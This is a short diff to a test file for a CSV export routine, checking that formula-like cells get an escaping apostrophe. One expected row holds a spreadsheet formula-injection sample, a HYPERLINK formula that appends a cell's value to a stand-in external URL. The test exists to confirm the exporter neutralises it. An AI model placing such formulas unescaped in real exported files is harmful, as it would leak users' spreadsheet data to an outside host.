@@ -64,7 +64,7 @@ describe('output formats', () => {
     const t = new arrow.Table(schema, [toRecordBatch(schema, specs, { length: risky.length, columns: b.map((x) => x.finish()) })]);
     const parsed = Papa.parse<string[]>(new TextDecoder().decode(FORMATS.csv.encode(t, specs)).trimEnd(), { header: false }).data.slice(1);
     expect(parsed).toEqual([
-      ["'=HYPERLINK(\"https://x.example/?\"&A1)", '-3', '-12.5', "'-3%"],
+      ['\'=HYPERLINK("https://x.example/?"&A1)', '-3', '-12.5', "'-3%"],
       ["'@id", '1', '2', "''=already"],
       ['plain', '2', '', "'+1"],
     ]);
